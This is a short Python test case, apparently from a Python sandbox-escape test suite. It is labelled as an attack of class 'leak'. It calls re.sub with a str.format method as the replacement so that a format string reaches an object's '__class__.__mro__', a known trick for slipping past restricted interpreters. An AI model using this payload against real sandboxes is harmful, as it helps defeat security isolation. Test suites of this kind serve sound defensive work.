# attack: re-sub-format
# layer: language
# class: leak
# success: re.sub with a method of text that formats
import re
def run():
    return "PWNED " + re.sub("a", "{0.re.__class__.__mro__}".format, "a")
